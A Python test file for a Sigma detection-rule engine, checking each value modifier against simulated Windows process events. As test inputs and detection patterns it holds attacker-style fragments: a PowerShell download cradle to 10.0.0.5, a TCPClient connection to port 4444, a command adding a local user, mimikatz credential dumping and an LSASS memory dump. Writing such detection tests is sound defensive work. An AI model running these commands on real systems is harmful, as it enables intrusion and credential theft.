"""Each Sigma 2.1 value modifier on real-shaped events: what must match and what must not.

Every case runs in the three engine modes (routing + pre-filter, routing only, naive) so that a
pre-filter or routing shortcut that changes a result fails here, not in production.
"""

from __future__ import annotations

import base64

import pytest

from .engine_helpers import MODES, fires, one_rule, process


@pytest.fixture(params=list(MODES))
def mode(request: pytest.FixtureRequest) -> str:
    return request.param


def check(mode: str, detection: str, yes: list[dict], no: list[dict], **kwargs) -> None:
    ruleset = one_rule(detection, mode, **kwargs)
    for event in yes:
        assert fires(ruleset, event), f"should match: {event}"
    for event in no:
        assert not fires(ruleset, event), f"should not match: {event}"


def test_plain_value_is_case_insensitive_equality(mode):
    check(
        mode,
        "selection:\n  Image: 'C:\\Windows\\System32\\whoami.exe'\ncondition: selection",
        yes=[process(Image=r"c:\windows\system32\WHOAMI.EXE")],
        no=[process(Image=r"C:\Windows\System32\whoami.exe.bak"), process(Image=r"D:\whoami.exe"), process()],
    )


def test_wildcards_star_and_question_mark(mode):
    check(
        mode,
        "selection:\n  CommandLine: '*net? user*/add*'\ncondition: selection",
        yes=[process(CommandLine="net1 user eve P@ss /add"), process(CommandLine="cmd /c NET1 USER x /ADD /y")],
        no=[process(CommandLine="net user eve /delete"), process(CommandLine="netsh user /add")],
    )


def test_escaped_wildcards_are_literal(mode):
    check(
        mode,
        r"selection:" "\n" r"  CommandLine|contains: 'a\*b\?c'" "\ncondition: selection",
        yes=[process(CommandLine="x a*b?c y")],
        no=[process(CommandLine="x aXXbYc y"), process(CommandLine="x abc y")],
    )


def test_contains_startswith_endswith(mode):
    check(
        mode,
        """
        sel_img:
          Image|endswith: '\\rundll32.exe'
        sel_cmd:
          CommandLine|contains: 'javascript:'
        sel_parent:
          ParentImage|startswith: 'C:\\Users\\'
        condition: all of sel_*
        """,
        yes=[
            process(
                Image=r"C:\Windows\rundll32.exe", CommandLine="rundll32 JavaScript:x", ParentImage=r"c:\users\a\b.exe"
            )
        ],
        no=[
            process(Image=r"C:\Windows\rundll32.exe.x", CommandLine="rundll32 javascript:x", ParentImage=r"C:\Users\a"),
            process(Image=r"C:\Windows\rundll32.exe", CommandLine="rundll32 vbscript:x", ParentImage=r"C:\Users\a"),
            process(Image=r"C:\Windows\rundll32.exe", CommandLine="javascript:", ParentImage=r"D:\C:\Users\a"),
        ],
    )


def test_value_lists_are_ored_and_all_makes_them_anded(mode):
    check(
        mode,
        "any_one:\n  Image|endswith: ['\\a.exe', '\\b.exe']\n"
        "every:\n  CommandLine|contains|all: ['-user', '-pass']\ncondition: any_one and every",
        yes=[process(Image=r"C:\b.exe", CommandLine="x -pass 1 -user 2")],
        no=[process(Image=r"C:\b.exe", CommandLine="x -user 2"), process(Image=r"C:\c.exe", CommandLine="-user -pass")],
    )


def test_exists(mode):
    check(
        mode,
        "has:\n  OriginalFileName|exists: true\nhasnot:\n  ParentUser|exists: false\ncondition: has and hasnot",
        yes=[process(OriginalFileName="")],
        no=[process(), process(OriginalFileName="x", ParentUser="SYSTEM")],
    )


def test_null_means_the_field_is_absent(mode):
    check(
        mode,
        "selection:\n  Image|endswith: '\\x.exe'\n  OriginalFileName: null\ncondition: selection",
        yes=[process(Image=r"C:\x.exe"), process(Image=r"C:\x.exe", OriginalFileName=None)],
        no=[process(Image=r"C:\x.exe", OriginalFileName="x.exe")],
    )


def test_empty_string_is_not_null(mode):
    check(
        mode,
        "selection:\n  Description: ''\ncondition: selection",
        yes=[process(Description="")],
        no=[process(), process(Description="Windows host")],
    )


def test_cased_compares_case_sensitively(mode):
    check(
        mode,
        "selection:\n  CommandLine|cased|contains: 'EnCoDeD'\ncondition: selection",
        yes=[process(CommandLine="powershell -EnCoDeD abc")],
        no=[process(CommandLine="powershell -encoded abc"), process(CommandLine="powershell -ENCODED abc")],
    )


def test_neq_negates_the_item(mode):
    check(
        mode,
        "selection:\n  Image|endswith: '.exe'\n  User|neq: 'NT AUTHORITY\\SYSTEM'\ncondition: selection",
        yes=[process(Image="a.exe", User="PLANT\\op1"), process(Image="a.exe")],
        no=[process(Image="a.exe", User="nt authority\\system")],
    )


def test_windash_expands_dash_and_slash_variants(mode):
    check(
        mode,
        "selection:\n  CommandLine|windash|contains: ' -decode '\ncondition: selection",
        yes=[
            process(CommandLine="certutil -decode a b"),
            process(CommandLine="certutil /decode a b"),
            process(CommandLine="certutil \u2013decode a b"),  # en dash
            process(CommandLine="certutil \u2014decode a b"),  # em dash
        ],
        no=[process(CommandLine="certutil decode a b"), process(CommandLine="certutil --decode a b")],
    )


def test_re_is_case_sensitive_and_unanchored(mode):
    check(
        mode,
        "selection:\n  CommandLine|re: '-[Ee]nc(odedcommand)?\\s+[A-Za-z0-9+/=]{16,}'\ncondition: selection",
        yes=[process(CommandLine="powershell.exe -nop -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi")],
        no=[
            process(CommandLine="powershell.exe -nop -ENC SQBFAFgAIAAoAE4AZQB3AC0ATwBi"),
            process(CommandLine="-enc x"),
        ],
    )


def test_re_flags_i_m_s(mode):
    check(
        mode,
        "selection:\n  ScriptBlockText|re|i|m: '^invoke-mimikatz$'\ncondition: selection",
        yes=[process(ScriptBlockText="$a = 1\nInvoke-Mimikatz\n$b")],
        no=[process(ScriptBlockText="$a = 1 Invoke-Mimikatz x")],
    )
    check(
        mode,
        "selection:\n  ScriptBlockText|re|s: 'begin.*end'\ncondition: selection",
        yes=[process(ScriptBlockText="begin\nmiddle\nend")],
        no=[process(ScriptBlockText="end\nbegin")],
    )


def test_base64_and_base64offset(mode):
    payload = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"
    encoded_at = [base64.b64encode((" " * i + payload).encode()).decode() for i in range(3)]
    check(
        mode,
        "selection:\n  CommandLine|base64offset|contains: 'DownloadString('\ncondition: selection",
        yes=[process(CommandLine=f"powershell -e {e}") for e in encoded_at],
        no=[process(CommandLine="powershell -e " + base64.b64encode(b"Get-Process").decode())],
    )
    check(
        mode,
        "selection:\n  CommandLine|base64|contains: 'http://'\ncondition: selection",
        yes=[process(CommandLine="x " + base64.b64encode(b"http://").decode())],
        no=[process(CommandLine="x " + base64.b64encode(b"https://").decode())],
    )


def test_utf16_encodings_with_base64offset(mode):
    for modifier, codec in (("wide", "utf-16-le"), ("utf16le", "utf-16-le"), ("utf16be", "utf-16-be")):
        text = "$c = New-Object System.Net.Sockets.TCPClient('10.1.1.1',4444)"
        encoded = [base64.b64encode((" " * i + text).encode(codec)).decode() for i in range(2)]
        check(
            mode,
            f"selection:\n  CommandLine|{modifier}|base64offset|contains: 'Sockets.TCPClient'\ncondition: selection",
            yes=[process(CommandLine=f"powershell -enc {e}") for e in encoded],
            no=[process(CommandLine="powershell -enc " + base64.b64encode(text.encode("utf-8")).decode())],
        )


def test_utf16_with_bom_matches_text_that_starts_with_the_value(mode):
    # `utf16` encodes the value with a byte-order mark, so it finds the value at the start of a payload.
    check(
        mode,
        "selection:\n  CommandLine|utf16|base64offset|contains: 'Start-Process'\ncondition: selection",
        yes=[process(CommandLine="x " + base64.b64encode("Start-Process calc".encode("utf-16")).decode())],
        no=[process(CommandLine="x " + base64.b64encode("Start-Process calc".encode("utf-16-le")).decode())],
    )


def test_numeric_comparisons(mode):
    check(
        mode,
        "selection:\n  TerminalSessionId|gte: 2\n  TerminalSessionId|lt: 10\ncondition: selection",
        yes=[process(TerminalSessionId=2), process(TerminalSessionId="9")],
        no=[process(TerminalSessionId=1), process(TerminalSessionId=10), process(TerminalSessionId="n/a"), process()],
    )
    check(
        mode,
        "selection:\n  ProcessId|gt: 4000\n  ProcessId|lte: 0x1000\ncondition: selection",
        yes=[process(ProcessId=4096), process(ProcessId="0x1000")],
        no=[process(ProcessId=4000), process(ProcessId=4097)],
    )


def test_cidr_ipv4_and_ipv6(mode):
    check(
        mode,
        "selection:\n  DestinationIp|cidr: ['10.20.0.0/16', 'fd00::/8']\ncondition: selection",
        yes=[process(DestinationIp="10.20.3.4"), process(DestinationIp="fd12:3456::1")],
        no=[process(DestinationIp="10.21.0.1"), process(DestinationIp="fe80::1"), process(DestinationIp="plc-7")],
    )


def test_expand_takes_values_from_the_site_placeholders(mode):
    detection = "selection:\n  User|expand: '%plant_admins%'\ncondition: selection"
    check(
        mode,
        detection,
        yes=[process(User="PLANT\\adm_maria"), process(User="plant\\ENGINEER")],
        no=[process(User="PLANT\\operator1")],
        placeholders={"plant_admins": ["PLANT\\adm_*", "PLANT\\engineer"]},
    )


def test_fieldref_compares_two_fields(mode):
    check(
        mode,
        "selection:\n  ParentUser|fieldref: User\ncondition: selection",
        yes=[process(User="PLANT\\op1", ParentUser="plant\\OP1")],
        no=[process(User="PLANT\\op1", ParentUser="PLANT\\op2"), process(User="PLANT\\op1")],
    )
    check(
        mode,
        "selection:\n  CommandLine|fieldref|contains: OriginalFileName\ncondition: selection",
        yes=[process(CommandLine="x ProcDump64.exe -ma lsass", OriginalFileName="procdump64.exe")],
        no=[process(CommandLine="x -ma lsass", OriginalFileName="procdump64.exe")],
    )


def test_keywords_search_every_value(mode):
    check(
        mode,
        "keywords:\n  - 'mimikatz'\n  - 'sekurlsa::*'\ncondition: keywords",
        yes=[process(CommandLine="x.exe sekurlsa::logonpasswords"), process(Description="MimiKatz for Windows")],
        no=[process(CommandLine="procdump -ma lsass.exe")],
    )


def test_numbers_match_their_string_form(mode):
    check(
        mode,
        "selection:\n  LogonType: 10\n  EventID: '1'\ncondition: selection",
        yes=[process(LogonType=10), process(LogonType="10")],
        no=[process(LogonType=3), process(LogonType="100")],
    )


def test_time_part_modifiers(mode):
    check(
        mode,
        "selection:\n  UtcTime|hour: 3\n  UtcTime|week: 48\ncondition: selection",
        yes=[process(UtcTime="2026-11-25 03:12:00.123"), process(UtcTime=1795662720), process(UtcTime=1795662720000)],
        no=[
            process(UtcTime="2026-11-25 13:12:00.123"),
            process(UtcTime="2026-05-05 03:12:00"),
            process(UtcTime="x"),
            process(UtcTime=10**30),  # out of range: no match, no error
        ],
    )


def test_condition_grammar(mode):
    check(
        mode,
        """
        selection_img:
          Image|endswith: '\\net.exe'
        selection_cmd:
          CommandLine|contains: ' user '
        filter_main:
          User: 'PLANT\\helpdesk'
        _private:
          Image: 'never'
        condition: 1 of selection_* and not (filter_main or 1 of _*)
        """,
        yes=[process(Image=r"C:\net.exe", User="x"), process(CommandLine="cmd /c net user eve", User="x")],
        no=[process(Image=r"C:\net.exe", User="PLANT\\helpdesk"), process(Image=r"C:\ping.exe")],
    )


def test_a_list_of_conditions_is_ored(mode):
    check(
        mode,
        "a:\n  Image|endswith: '\\a.exe'\nb:\n  Image|endswith: '\\b.exe'\ncondition:\n  - a\n  - b",
        yes=[process(Image=r"C:\a.exe"), process(Image=r"C:\b.exe")],
        no=[process(Image=r"C:\c.exe")],
    )


def test_list_valued_fields_match_when_any_element_does(mode):
    check(
        mode,
        "selection:\n  Data|contains: 'HostApplication=powershell -enc'\ncondition: selection",
        yes=[process(Data=("Available", "None", "\tHostApplication=PowerShell -enc AAAA"))],
        no=[process(Data=("Available", "HostApplication=powershell.exe"))],
    )
